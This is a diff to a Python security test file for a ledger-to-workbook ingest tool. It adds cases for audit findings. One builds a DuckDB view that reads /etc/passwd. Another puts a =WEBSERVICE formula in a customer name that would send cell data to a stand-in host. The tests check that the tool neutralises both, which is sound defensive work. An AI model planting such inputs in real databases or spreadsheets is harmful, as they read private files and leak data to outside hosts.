@@ -293,6 +293,36 @@ def a_damaged_wallet(folder: Path) -> list[str]:
     ]
 
 
+# --- finding 2: a database that reads files ----------------------------------------------------------------
+
+
+def a_view_that_reads_a_file(folder: Path) -> list[str]:
+    """A client's DuckDB file whose `ventas` view reads /etc/passwd (or any file of the consultant's machine)."""
+    import duckdb
+
+    database = folder / "client.duckdb"
+    with duckdb.connect(str(database)) as connection:
+        connection.execute("CREATE VIEW ventas AS SELECT * FROM read_text('/etc/passwd')")
+    return ["ingest", str(database), str(sample_folder(folder)), "--query", "ventas"]
+
+
+# --- finding 1: text that would become a formula ----------------------------------------------------------
+
+
+def a_formula_as_a_customer_name(folder: Path) -> list[str]:
+    """A new customer of the ledger is named =WEBSERVICE(…): ingested, it must stay text in the workbook."""
+    ledger = SAMPLE.parent / "sample_ledger"
+    sales = (ledger / "ventas.csv").read_text(encoding="utf-8").splitlines()
+    payload = '"=WEBSERVICE(""http://x.example/?""&B2)"'
+    sales.append(
+        sales[-1].split(";", 1)[0] + ";FV99-1;Z999;" + payload + ";CV-104;Conservas vegetales;1;10,00;5,00;EUR"
+    )
+    (folder / "ventas.csv").write_text("\n".join(sales) + "\n", encoding="utf-8")
+    shutil.copy(ledger / "ventas.yaml", folder / "ventas.yaml")
+    wb = sample_folder(folder)
+    return ["ingest", str(folder / "ventas.csv"), str(wb), "--map", str(folder / "ventas.yaml")]
+
+
 # --- finding 17: XML parsed without defences ----------------------------------------------------------------
 
 
@@ -328,6 +358,8 @@ CASES: tuple[Case, ...] = (
     Case("one_huge_shared_string", 12, one_huge_shared_string, 2, ("xl/sharedStrings.xml", "zip bomb")),
     Case("a_cell_in_column_xfd", 12, a_cell_in_column_xfd, 0, ("820 scores",)),
     Case("billion_laughs", 17, billion_laughs, 2, ("xl/workbook.xml declares XML entities",)),
+    Case("a_view_that_reads_a_file", 2, a_view_that_reads_a_file, 2, ("reaches outside the database",)),
+    Case("a_formula_as_a_customer_name", 1, a_formula_as_a_customer_name, 0, ("C110, Z999)",)),
 )
 
 
